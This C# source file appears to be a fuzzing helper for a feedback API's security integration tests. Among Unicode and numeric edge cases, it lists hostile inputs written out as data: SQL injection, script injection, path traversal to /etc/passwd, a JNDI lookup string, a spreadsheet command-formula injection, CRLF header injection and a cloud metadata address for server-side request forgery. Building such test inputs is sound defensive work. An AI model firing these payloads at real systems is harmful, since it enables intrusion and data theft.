using System.Globalization;
using System.Text;
using CsCheck;

namespace Feedback.Api.IntegrationTests.Security.Fuzzing;

/// <summary>The values an attacker, a broken client or an unlucky encoding sends.</summary>
public static class HostileValues
{
    private static readonly Gen<char> AlphaNumeric = Gen.Char["abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"];

    public static Gen<string> Letters(int min, int max) => AlphaNumeric.Array[min, max].Select(a => new string(a));

    /// <summary>Strings as JSON string literals (already escaped, quotes included): Unicode edge cases, injection
    /// payloads, escapes of lone surrogates and control characters, boundary lengths.</summary>
    public static readonly Gen<string> JsonString = Gen.Frequency<string>(
        (5, Gen.OneOfConst(
            "\"\"", "\" \"", "\"\\u0000\"", "\"a\\u0000b\"", "\"\\ud800\"", "\"\\udfff\\ud800\"", "\"\\uFEFF\"", "\"\\u202Eevil\"",
            "\"\\u200B\"", "\"e\\u0301\"", "\"\\uFFFF\"", "\"\\t\\r\\n\"", "\"\\b\\f\"", "\"👩‍👩‍👧‍👦\"", "\"𝕳𝖊𝖑𝖑𝖔\"", "\"Ａｄｍｉｎ\"",
            "\"'; DROP TABLE people; --\"", "\"' OR '1'='1\"", "\"\\\" OR \\\"\\\"=\\\"\"", "\"<script>alert(1)</script>\"",
            "\"../../../etc/passwd\"", "\"%00\"", "\"%FF%FE\"", "\"{{7*7}}\"", "\"${jndi:ldap://x/a}\"", "\"=cmd|' /C calc'!A0\"",
            "\"\\r\\nX-Injected: 1\"", "\"null\"", "\"true\"", "\"0\"", "\"-1\"", "\"1e309\"", "\"NaN\"", "\"2026-13-45T25:61:61Z\"",
            "\"00000000-0000-0000-0000-000000000000\"", "\"fbk_\"", "\"fbr_\"", "\"whsec_\"", "\"http://169.254.169.254/\"",
            "\"https://[::1]/\"", "\"javascript:alert(1)\"", "\"file:///etc/passwd\"", "\"admin\"", "\"leadership\"", "\"peer\"")),
        (3, Letters(0, 40).Select(Quote)),
        (2, Gen.String[0, 30].Select(Quote)), // any UTF-16, lone surrogates escaped by Quote
        (1, Gen.Int[100, 5000].Select(n => Quote(new string('x', n)))),
        (1, Gen.OneOfConst(127, 128, 129, 200, 201, 255, 256, 2000, 2001, 2048, 2049).Select(n => Quote(new string('a', n)))));

    /// <summary>Numbers as JSON literals: boundaries, overflow, fractions, exponents.</summary>
    public static readonly Gen<string> JsonNumber = Gen.Frequency<string>(
        (3, Gen.OneOfConst("0", "-0", "1", "-1", "2", "3", "5", "6", "10", "11", "49", "50", "51", "200", "201", "2147483647",
            "2147483648", "-2147483649", "9223372036854775808", "99999999999999999999999999", "1e309", "-1e309", "1.5", "4.0",
            "1e2", "0.0000001", "-0.0", "1E-400")),
        (2, Gen.Int.Select(i => i.ToString(CultureInfo.InvariantCulture))),
        (1, Gen.Double.Select(d => double.IsFinite(d) ? d.ToString("R", CultureInfo.InvariantCulture) : "1e999")));

    /// <summary>Any small JSON value, to put where another type belongs.</summary>
    public static readonly Gen<string> AnyJson = Gen.Frequency<string>(
        (3, JsonString), (3, JsonNumber), (1, Gen.OneOfConst("true", "false", "null")),
        (1, Gen.OneOfConst("[]", "{}", "[null]", "[1,\"a\",{}]", "{\"a\":null}", "[[[]]]")));

    /// <summary>Path segments, already percent-encoded where a URI needs it. No %00 or CR/LF: Kestrel refuses those before
    /// any of our code runs, and the in-memory test server cannot even send them.</summary>
    public static readonly Gen<string> PathSegment = Gen.Frequency<string>(
        (3, Gen.OneOfConst("0", "-1", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "not-a-guid",
            "%2e%2e", "..%2f..%2fetc", "%FF", "%C3%28", "%E2%80%AE", "%F0%9F%92%A9", "%20", "x%2Fy", "%25", "~", "a.b",
            "urn:ietf:params:scim:schemas:core:2.0:User", "null", "me", "%09", "%7F")),
        (2, Gen.Guid.Select(g => g.ToString())),
        (2, Letters(1, 40)),
        (1, Gen.Int[129, 3000].Select(n => new string('a', n))));

    /// <summary>Query values, percent-encoded.</summary>
    public static readonly Gen<string> QueryValue = Gen.Frequency<string>(
        (3, Gen.OneOfConst("", "0", "-1", "1", "50", "200", "201", "2147483648", "abc", "1.5", "1e3", "true", "null", "%FF", "%00",
            "%E2%80%AE", "gap", "-gap", "name", "draft", "open", "closed", "leaderOnly", "userName%20eq%20%22x%22",
            "externalId%20eq%20%22%22", "userName%20eq%20x", "userName%20co%20%22a%22", "%22", "()", "a%26b%3Dc")),
        (2, Letters(0, 30)),
        (1, Gen.Int.Select(i => i.ToString(CultureInfo.InvariantCulture))),
        (1, Gen.Int[300, 4000].Select(n => new string('z', n))));

    /// <summary>A JSON string literal for any .NET string: every non-ASCII or control character as a \u escape, so lone
    /// surrogates survive as escapes (which the server must refuse or handle, not choke on).</summary>
    public static string Quote(string s)
    {
        var b = new StringBuilder(s.Length + 2).Append('"');
        foreach (var c in s)
        {
            _ = c switch
            {
                '"' => b.Append("\\\""),
                '\\' => b.Append("\\\\"),
                < ' ' or > '~' => b.Append("\\u").Append(((int)c).ToString("x4", CultureInfo.InvariantCulture)),
                _ => b.Append(c),
            };
        }

        return b.Append('"').ToString();
    }
}
